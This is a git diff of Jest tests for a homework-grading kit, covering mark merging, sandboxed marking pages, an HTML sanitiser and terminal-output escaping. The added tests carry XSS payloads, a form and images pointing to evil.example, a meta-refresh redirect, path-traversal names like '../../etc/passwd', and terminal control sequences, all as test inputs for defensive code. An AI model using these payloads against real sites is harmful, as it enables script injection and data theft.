@@ -1,17 +1,19 @@
-import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
-import { execFileSync } from 'node:child_process';
-import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
+import { afterEach, beforeEach, describe, expect, it, jest } from '@jest/globals';
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { csv, similarPairs } from '../../../lib/homework/grading/class-files.js';
-import { collectSubmissions, fitForFile } from '../../../lib/homework/grading/collect-submissions.js';
+import { terminalJson, terminalText } from '../../../lib/core/terminal-text.js';
+import { classCsv, csv, similarPairs, writeClassFiles } from '../../../lib/homework/grading/class-files.js';
 import { fingerprint, similarity } from '../../../lib/homework/grading/fingerprint.js';
 import { feedbackPage, gradescopeResults } from '../../../lib/homework/grading/feedback.js';
-import { mergeMarks } from '../../../lib/homework/grading/merge-marks.js';
-import { readMarks, studentFolder, totalOf, writeResult, type SubmissionRecord } from '../../../lib/homework/grading/record.js';
+import { mergeMarks, type Merged } from '../../../lib/homework/grading/merge-marks.js';
+import { answerHash, readMarks, studentFolder, totalOf, writeResult, type SubmissionRecord } from '../../../lib/homework/grading/record.js';
+import { renderAnswer } from '../../../lib/homework/grading/render-answer.js';
+import { sanitised } from '../../../lib/homework/grading/sanitise.js';
 import { writeMarkingPages } from '../../../lib/homework/grading/written-pages.js';
-import { inVenv, root } from '../../../lib/setup/paths.mjs';
-import { answered, BACKWARDS, MEAN, writeSubmission } from './notebooks.js';
+import { BACKWARDS, MEAN } from './notebooks.js';
+
+jest.setTimeout(60_000); // a reader is started
 
 let folder: string;
 beforeEach(() => void (folder = mkdtempSync(join(tmpdir(), 'grading-files-'))));
@@ -20,80 +22,9 @@ afterEach(() => rmSync(folder, { recursive: true }));
 const SCRIPT = '<script>alert("x")</script>';
 const recordOf = (student: string, changed: Partial<SubmissionRecord> = {}): SubmissionRecord => ({
   student, submissionHash: 'a', planHash: 'b', set: 9, isolation: 'enclosed', fingerprints: {},
-  exercises: [{ id: '9.1', title: 'The mean', points: 3, earned: 3, verdict: 'right', sentences: [], right: { public: [2, 2], hidden: [3, 3] } }],
-  written: [{ id: '9.3', title: 'Why', points: 4, text: 'Because.', images: [] }],
+  exercises: [{ id: '9.1', title: 'The mean', points: 3, earned: 3, verdict: 'right', sentences: [], right: { public: [2, 2], hidden: [3, 3] } }], answers: { '9.1': MEAN },
+  written: [{ id: '9.3', title: 'Why', points: 4, text: 'Because.', outputs: [], attachments: {} }],
   ...changed,
-});
-
-describe('collecting submissions', () => {
-  const zipped = (kind: string) => {
-    const notebook = writeSubmission(join(folder, 'made.json'), answered({}));
-    execFileSync(inVenv('python'), [join(root, 'test/homework/grading/make-zip.py'), kind, join(folder, `${kind}.zip`), notebook]);
-    return join(folder, `${kind}.zip`);
-  };
-  const collect = (...paths: string[]) => collectSubmissions(paths, join(folder, 'unpacked'));
-
-  it('knows students by file name, or by folder where the files have one name', async () => {
-    writeSubmission(join(folder, 'class/anna.ipynb'), []);
-    writeSubmission(join(folder, 'class/b/set-9.ipynb'), []);
-    writeSubmission(join(folder, 'class/c/set-9.ipynb'), []);
-    writeSubmission(join(folder, 'class/.ipynb_checkpoints/anna.ipynb'), []);
-    writeFileSync(join(folder, 'class/notes.txt'), '');
-    const { submissions, refused } = await collect(join(folder, 'class'));
-    expect(submissions.map(({ student }) => student)).toEqual(['anna', 'class_b_set-9', 'class_c_set-9']);
-    expect(refused).toEqual([]);
-    expect((await collect(zipped('many'))).submissions.map(({ student }) => student)).toEqual(['anna_set-9', 'ben_set-9']);
-  });
-
-  it('a link to another person\'s work, or to a file of the machine, is refused', async () => {
-    writeSubmission(join(folder, 'class/anna.ipynb'), []);
-    symlinkSync(join(folder, 'class/anna.ipynb'), join(folder, 'class/ben.ipynb'));
-    symlinkSync('/etc', join(folder, 'class/etc'));
-    const { submissions, refused } = await collect(join(folder, 'class'));
-    expect(submissions.map(({ student }) => student)).toEqual(['anna']);
-    expect(refused.map(({ reason }) => reason)).toEqual(['it is a link', 'it is a link']);
-  });
-
-  it('a zip file cannot write outside its folder', async () => {
-    const { submissions, refused } = await collect(zipped('escape'));
-    expect(submissions.map(({ student }) => student)).toEqual(['honest']);
-    expect(refused).toHaveLength(4);
-    expect([join(folder, 'escaped.ipynb'), '/tmp/escaped.ipynb'].filter((file) => existsSync(file))).toEqual([]);
-    expect(readdirSync(join(folder, 'unpacked', '0-escape'))).toEqual(['0.ipynb']);
-  });
-
-  it('a link in a zip file is refused', async () => {
-    const { submissions, refused } = await collect(zipped('link'));
-    expect([submissions.map(({ student }) => student), refused.map(({ reason }) => reason)]).toEqual([['honest'], ['it is a link']]);
-  });
-
-  it('a zip bomb does not explode, and what stands beside it is read', async () => {
-    const { submissions, refused } = await collect(zipped('bomb'));
-    expect([submissions.map(({ student }) => student), refused.map(({ reason }) => reason)]).toEqual([['honest'], ['it unpacks to 40000000 bytes']]);
-  }, 60_000);
-
-  it('a zip bomb that lies about its size does not explode', async () => {
-    const file = zipped('bomb');
-    const bytes = readFileSync(file);
-    const size = Buffer.alloc(4);
-    size.writeUInt32LE(40_000_000);
-    for (let at = bytes.indexOf(size); at >= 0; at = bytes.indexOf(size, at + 1)) bytes.writeUInt32LE(1000, at);
-    writeFileSync(file, bytes);
-    const { refused } = await collect(file);
-    expect(refused.map(({ reason }) => reason).join()).toMatch(/too many bytes|more than|invalid/);
-    const unpacked = join(folder, 'unpacked', '0-bomb', '0.ipynb');
-    expect(!existsSync(unpacked) || readFileSync(unpacked).length < 1e6).toBe(true);
-  }, 60_000);
-
-  it('what only says that it is a zip file is refused', async () => {
-    writeFileSync(join(folder, 'no.zip'), 'no');
-    truncateSync(join(folder, 'no.zip'), 100);
-    expect((await collect(join(folder, 'no.zip'))).refused).toHaveLength(1);
-  });
-
-  it('gives names that mean nothing in a path', () => {
-    expect(['../../etc/passwd', '..', 'Anna Müller', 'a\0b', '<script>', '-rf', 'x'.repeat(300)].map(fitForFile)).toEqual(['etc_passwd', 'unnamed', 'Anna Müller', 'a_b', 'script', 'rf', 'x'.repeat(80)]);
-  });
 });
 
 describe('what a student gets', () => {
@@ -125,41 +56,178 @@ describe('what a student gets', () => {
   });
 });
 
-describe('marks for written answers', () => {
+describe('marks by a person', () => {
   const out = () => join(folder, 'out');
-  const save = (record: SubmissionRecord) => writeResult(join(studentFolder(out(), record.student), 'record.json'), JSON.stringify(record));
-  const marks = (text: string) => {
-    writeFileSync(join(folder, 'marks.csv'), `student,question,points,comment\n${text}\n`);
+  const save = (record: SubmissionRecord) => {
+    writeResult(join(studentFolder(out(), record.student), 'record.json'), JSON.stringify(record));
+    return record;
+  };
+  const marks = (text: string): Merged => {
+    writeFileSync(join(folder, 'marks.csv'), `\ufeffstudent,question,points,comment,answer\n${text}\n`);
     return mergeMarks(out(), [join(folder, 'marks.csv')]);
   };
-  const PLAN = { set: 9, written: [{ id: '9.3', title: 'Why', points: 4 }] };
+  const PLAN = { set: 9, exercises: [{ id: '9.1', title: 'The mean', points: 3 }], written: [{ id: '9.3', title: 'Why', points: 4, task: 'Say **why** $x^2$.', rubric: 'Names the *cause*.' }] };
+  const page = (name = 'written/9.3.html') => readFileSync(join(out(), name), 'utf8');
+  const emptied = (record: SubmissionRecord): SubmissionRecord => ({ ...record, written: [{ ...record.written[0]!, text: '' }] });
 
-  it('are collected on a page for each question, and merged back', () => {
-    const records = ['anna', 'ben'].map((student) => recordOf(student));
-    records.forEach(save);
-    writeMarkingPages(out(), records, PLAN);
-    expect(readFileSync(join(out(), 'written/9.3.csv'), 'utf8')).toBe('student,question,points,comment\nanna,9.3,,\nben,9.3,,\n');
-    expect(marks('anna,9.3,3.5,"well, yes"\nben,9.3,,')).toEqual(['anna']);
+  it('are collected on a page for each question, and merged back', async () => {
+    const records = ['anna', 'ben'].map((student) => save(recordOf(student)));
+    const of = answerHash(records[0]!, '9.3');
+    await writeMarkingPages(out(), records, PLAN);
+    expect(page('written/9.3.csv')).toBe(`student,question,points,comment,answer\nanna,9.3,,,${of}\nben,9.3,,,${of}\n`);
+    expect(marks('anna,9.3,3.5,"well, yes",\nben,9.3,,,').students).toEqual(['anna']);
     expect(totalOf(records[0]!, readMarks(out(), 'anna'))).toEqual({ earned: 6.5, possible: 7, open: 0 });
     expect(totalOf(records[1]!, readMarks(out(), 'ben'))).toEqual({ earned: 3, possible: 7, open: 4 });
-    writeMarkingPages(out(), records, PLAN);
-    expect(readFileSync(join(out(), 'written/9.3.html'), 'utf8')).toContain('value="3.5"');
+    await writeMarkingPages(out(), records, PLAN);
+    expect(page()).toContain('value="3.5"');
+  });
+
+  it('reach the student, with the comment', () => {
+    const record = recordOf('anna');
+    const given = { '9.3': { points: 3, comment: 'Nice & short', of: answerHash(record, '9.3') } };
+    expect(feedbackPage(record, 'x', given)).toContain('Nice &amp; short');
+    expect(gradescopeResults(record, given)).toMatchObject({ tests: [{}, { score: 3, output: 'Nice & short' }] });
+  });
+
+  it('do not survive an emptied essay: they are asked for again, on the page and in the table', async () => {
+    save(recordOf('anna'));
+    marks('anna,9.3,4,all there,');
+    const record = save(emptied(recordOf('anna')));
+    expect(totalOf(record, readMarks(out(), 'anna'))).toEqual({ earned: 3, possible: 7, open: 4 });
+    expect(classCsv({ records: [record], leftOut: [] }, PLAN, out())).toContain('anna,3,,3,7,4,"to be marked again, because the answer is another one by now: 9.3"');
+    await writeMarkingPages(out(), [record], PLAN);
+    expect(page()).toContain('another answer than this one was given 4 points, with the comment: all there');
+    expect(feedbackPage(record, 'x', readMarks(out(), 'anna'))).not.toContain('all there');
+  });
+
+  it('do not survive another figure either, and count again when the answer is the old one', () => {
+    const figure = { kind: 'html' as const, text: '<b>1</b>' };
+    save(recordOf('anna'));
+    marks('anna,9.3,4,,');
+    const changed = { ...recordOf('anna'), written: [{ ...recordOf('anna').written[0]!, outputs: [figure] }] };
+    expect(totalOf(changed, readMarks(out(), 'anna')).open).toBe(4);
+    expect(totalOf(recordOf('anna'), readMarks(out(), 'anna')).open).toBe(0);
+  });
+
+  it('given on a page of yesterday do not go to the answer of today', () => {
+    const before = answerHash(save(recordOf('anna')), '9.3');
+    save(emptied(recordOf('anna')));
+    expect(marks(`anna,9.3,4,,${before}`)).toEqual({ students: [], outdated: [expect.stringContaining('row 1: anna answers something else to 9.3 now')] });
+    expect(readMarks(out(), 'anna')).toEqual({});
+  });
+
+  it('take the place of automatic points with a reason, which the student reads, and can be taken back', () => {
+    const record = save(recordOf('anna'));
+    expect(() => marks('anna,9.1,2,,')).toThrow('row 1: expected a comment that says why the automatic points of 9.1 are changed, got none');
+    marks('anna,9.1,2,copied the hint,');
+    expect(totalOf(record, readMarks(out(), 'anna'))).toMatchObject({ earned: 2 });
+    expect(feedbackPage(record, 'x', readMarks(out(), 'anna'))).toMatch(/2 of 3<\/h2>\s*<p><strong>A person gave these points<\/strong>, 3 before: copied the hint/);
+    expect(gradescopeResults(record, readMarks(out(), 'anna'))).toMatchObject({ score: 2, tests: [{ score: 2, output: 'A person gave these points, 3 before: copied the hint\n' }, {}] });
+    expect(totalOf({ ...record, answers: { '9.1': BACKWARDS } }, readMarks(out(), 'anna'))).toMatchObject({ earned: 3 }); // another answer: the automatic points
+    marks('anna,9.1,-,,');
+    expect(totalOf(record, readMarks(out(), 'anna'))).toMatchObject({ earned: 3 });
+  });
+
+  it('that cannot be read are not lost by merging others', () => {
+    save(recordOf('anna'));
+    writeResult(join(studentFolder(out(), 'anna'), 'marks.json'), '{"9.3":');
+    expect(() => marks('anna,9.3,4,,')).toThrow('expected JSON in');
+    expect(readFileSync(join(studentFolder(out(), 'anna'), 'marks.json'), 'utf8')).toBe('{"9.3":');
   });
 
   it('that cannot be given are refused, all together', () => {
     save(recordOf('anna'));
-    expect(() => marks('anna,9.3,3,\nanna,9.3,5,')).toThrow(/row 2: expected 0 to 4 points, got "5"$/);
-    expect(() => marks('anna,9.4,1,')).toThrow(/expected one of the questions 9.3, got "9.4"$/);
-    expect(() => marks('../anna,9.3,1,')).toThrow(/expected a student who was graded, got "..\/anna"$/);
-    expect(() => marks('ben,9.3,1,')).toThrow(/expected a student who was graded, got "ben"$/);
+    expect(() => marks('anna,9.3,3,,\nanna,9.3,5,,')).toThrow(/row 2: expected 0 to 4 points, got "5"$/);
+    expect(() => marks('anna,9.4,1,,')).toThrow(/expected one of the questions 9.3, 9.1, got "9.4"$/);
+    expect(() => marks('anna,__proto__,1,,')).toThrow(/got "__proto__"$/);
+    expect(() => marks('../anna,9.3,1,,')).toThrow(/expected a student who was graded, got "..\/anna"$/);
+    expect(() => marks('ben,9.3,1,,')).toThrow(/expected a student who was graded, got "ben"$/);
+    expect(() => marks('anna,9.3,NaN,,')).toThrow(/expected 0 to 4 points, got "NaN"$/);
     expect(readMarks(out(), 'anna')).toEqual({});
   });
 
-  it('are given on a page whose only script is the kit\'s own', () => {
-    writeMarkingPages(out(), [recordOf('anna', { written: [{ id: '9.3', title: SCRIPT, points: 4, text: `</pre>${SCRIPT}`, images: ['data:image/png;base64,aGk='] }] })], PLAN);
-    const html = readFileSync(join(out(), 'written/9.3.html'), 'utf8');
-    expect(html.match(/<script/g)).toHaveLength(1);
-    expect(html).toContain('&lt;/pre&gt;');
+  it('are given on a page that shows what was asked, what to look for and what the student sees', async () => {
+    const outputs = [{ kind: 'html' as const, text: '<table><tr><td>17</td></tr></table>' }, { kind: 'text' as const, text: '\u001b[31mprinted\u001b[0m' }];
+    const record = recordOf('anna', { written: [{ id: '9.3', title: 'Why', points: 4, text: '**Because** $\\frac{A}{N}$ ![my figure](attachment:a.png)', outputs, attachments: { 'a.png': 'data:image/png;base64,aGk=' } }] });
+    await writeMarkingPages(out(), [record], PLAN);
+    for (const part of ['<p>Say <strong>why</strong>', '<em>cause</em>', '<p><strong>Because</strong>', '<mfrac><mi>A</mi><mi>N</mi></mfrac>', '<img alt="my figure" src="data:image/png;base64,aGk=">', '<td>17</td>', '<pre>printed</pre>']) expect(page()).toContain(part);
+    expect(page('automatic/9.1.html')).toContain('let sum = 0;');
+  });
+
+  it('are given on a page that runs the kit\'s own script and no other, and asks no other machine for anything', async () => {
+    const written = [{ id: '9.3', title: SCRIPT, points: 4, text: `</pre>${SCRIPT}</article><base href="//evil.example">`, outputs: [{ kind: 'html' as const, text: `${SCRIPT}<img src="//evil.example/x.png">` }], attachments: {} }];
+    await writeMarkingPages(out(), [recordOf(SCRIPT, { written })], PLAN);
+    expect(page().match(/<script/g)).toHaveLength(1);
+    expect(page()).toMatch(/content="default-src 'none'; style-src 'unsafe-inline'; script-src 'sha256-[\w+/]{43}='; img-src data:; form-action 'none'; base-uri 'none'"/);
+    expect(page()).not.toMatch(/<(base|link|iframe|meta http-equiv="refresh)|src="(?!data:)|href=/);
+  });
+
+  it('cost nobody a page because one figure cannot be taken apart: that one is shown as it is', async () => {
+    const deep = recordOf('aaron', { written: [{ id: '9.3', title: 'Why', points: 4, text: 'Because.', outputs: [{ kind: 'html', text: '<b>&'.repeat(300_000) }, { kind: 'text', text: 'printed' }], attachments: {} }] });
+    await writeMarkingPages(out(), [deep, recordOf('zoe')], PLAN);
+    expect(page()).toContain('(shown as it is: rendering it takes more time or memory than there is)</p>\n<pre>Because.</pre>\n<pre>printed</pre>');
+    expect(page()).toContain('data-student="zoe"');
+  });
+
+  it('cost nobody a page or a row because one essay is a flood', async () => {
+    const flood = (student: string) => save(recordOf(student, { written: [{ id: '9.3', title: 'Why', points: 4, text: '&'.repeat(100_000), outputs: Array.from({ length: 20 }, () => ({ kind: 'html' as const, text: '<b>&</b>'.repeat(10_000) })), attachments: {} }] }));
+    const records = [flood('aaron'), flood('abel'), save(recordOf('zoe'))];
+    writeClassFiles(out(), { records, leftOut: [] }, PLAN);
+    await writeMarkingPages(out(), records, PLAN);
+    expect(page('class.csv').trimEnd().split('\n')).toHaveLength(4);
+    expect(page() + (existsSync(join(out(), 'written/9.3-2.html')) ? page('written/9.3-2.html') : '')).toContain('data-student="zoe"');
+  });
+});
+
+describe('what a student wrote', () => {
+  it.each([
+    ['a script', '<script>alert(1)</script>', ''],
+    ['a script in capitals that is not closed', '<SCRIPT SRC=//evil.example/x.js>', ''],
+    ['a handler', '<b onmouseover="alert(1)">x</b>', '<b>x</b>'],
+    ['a handler on a picture', '<img src=x onerror=alert(1)>', '<code>(a picture that is not in the notebook: x)</code>'],
+    ['an address that is a script', '<a href="javascript:alert(1)">x</a>', 'x'],
+    ['a frame', '<iframe srcdoc="<script>1</script>">x</iframe>', ''],
+    ['a form', '<form action="//evil.example"><input name=a><button>x</button></form>', 'x'],
+    ['a style that covers the page', '<div style="position:fixed;inset:0">x</div>', '<div>x</div>'],
+    ['a sheet of styles', '<style>@import "//evil.example/x.css"; article { display: none }</style>x', 'x'],
+    ['a picture of another machine', '<img src="https://evil.example/x.png">', '<code>(a picture that is not in the notebook: https://evil.example/x.png)</code>'],
+    ['a page in a picture\'s address', '<img src="data:text/html;base64,aGk=">', '<code>(a picture that is not in the notebook: data:text/html;base64,aGk=)</code>'],
+    ['a new address after a while', '<meta http-equiv="refresh" content="0;url=//evil.example">x', 'x'],
+    ['a foreign element with a script', '<math><mtext><script>1</script></mtext></math>x', 'x'],
+    ['a comment that ends late', '<!-- --!><b>x</b>-->', '<b>x</b>--&gt;'],
+    ['an attribute that ends the tag', '<td colspan=\'2"><script>1</script>\'>x</td>', '<td>x</td>'],
+    ['text that looks like a tag', '&lt;script&gt;', '&lt;script&gt;'],
+  ])('does nothing on the page: %s', (_, html, safe) => {
+    const shown = sanitised(html);
+    expect(shown).not.toMatch(/<script|onerror=|onmouseover=|javascript:|style=/i);
+    if (!html.startsWith('<!--')) expect(shown).toBe(safe);
+  });
+
+  it('keeps a figure as a picture, whatever is in it', () => {
+    const shown = sanitised('<figure><svg viewBox="0 0 1 1"><script>1</script><svg></svg><image href="//evil.example/x.png"/></svg><figcaption>Loss</figcaption></figure>');
+    expect(shown).toMatch(/^<figure><img alt="" src="data:image\/svg\+xml;base64,[\w+/]+=*"><figcaption>Loss<\/figcaption><\/figure>$/);
+  });
+
+  it('renders formulas that call themselves, brackets without an end and forged places of formulas', () => {
+    const render = (text: string) => renderAnswer({ text, outputs: [], attachments: {} });
+    expect(render('$\\def\\a{\\a\\a}\\a$')).toContain('<code>');
+    expect(render(`$${'{'.repeat(4000)}$`)).toContain('<code>');
+    expect(render('$\\href{javascript:alert(1)}{x}$')).not.toContain('href=');
+    expect(render('\uE0000\uE001 \uE00099\uE001')).not.toContain('undefined');
+    expect(sanitised('<div>'.repeat(20_000)).length).toBeLessThan(2000);
+  });
+});
+
+describe('what a terminal is told', () => {
+  it('moves no cursor, turns no line and hides nothing', () => {
+    expect(terminalText('a\u001b[2Jb\u202ec\u200bd\u009b1me\nf\u2028\ud800')).toBe('a\\u{1b}[2Jb\\u{202e}c\\u{200b}d\\u{9b}1me\\u{a}f\\u{2028}\\u{d800}');
+    expect(terminalText('Müller 😀 – ok')).toBe('Müller 😀 – ok');
+  });
+
+  it('is JSON that means the same', () => {
+    const value = { student: 'a\u001b[2J\u009b1m\u202e\u{e0061}ü😀' };
+    expect(JSON.parse(terminalJson(value))).toEqual(value);
+    expect(terminalJson(value)).not.toMatch(/[^\P{C}\n]/u);
   });
 });
 
@@ -178,9 +246,20 @@ describe('similar submissions', () => {
     const others = 'const a = 1; const b = [a, 2]; while (b.length) { b.pop(); if (a) continue; }';
     const records = [recordOf('anna', { fingerprints: long('') }), recordOf('ben', { fingerprints: long('') }), recordOf('cleo', { fingerprints: long(others) }), recordOf('dan', { fingerprints: { '9.1': [1] } })];
     const pairs = similarPairs(records);
-    expect(pairs[0]).toEqual({ a: 'anna', b: 'ben', percent: 100, most: { id: '9.1', percent: 100 } });
+    expect(pairs[0]).toEqual({ group: 1, a: 'anna', b: 'ben', percent: 100, most: { id: '9.1', percent: 100 } });
     expect(pairs.some(({ a, b }) => a === 'dan' || b === 'dan')).toBe(false);
   });
+});
+
+it('a list of similar submissions is not flooded by equal files: twelve of them take eleven rows, and the other pair is there', () => {
+  const of = (student: string, own: string) => recordOf(student, { fingerprints: { '9.1': fingerprint(`${MEAN}\n${own}`) } });
+  const flood = Array.from({ length: 12 }, (_, i) => of(`flood-${i}`, ''));
+  const own = 'const a = 1; const b = [a, 2]; while (b.length) { b.pop(); if (a) continue; } for (const c of b) { c.x = () => a ? b : 3; }';
+  const pair = [recordOf('anna', { fingerprints: { '9.1': fingerprint(`${own}${own}`) } }), recordOf('ben', { fingerprints: { '9.1': fingerprint(`${own}${own} a;`) } })];
+  const pairs = similarPairs([...flood, ...pair]);
+  expect(pairs).toHaveLength(12);
+  expect(pairs.filter(({ a, b }) => a === 'anna' && b === 'ben')).toHaveLength(1);
+  expect(new Set(pairs.map(({ group }) => group)).size).toBe(2);
 });
 
 it('a file is written whole, or not at all', () => {
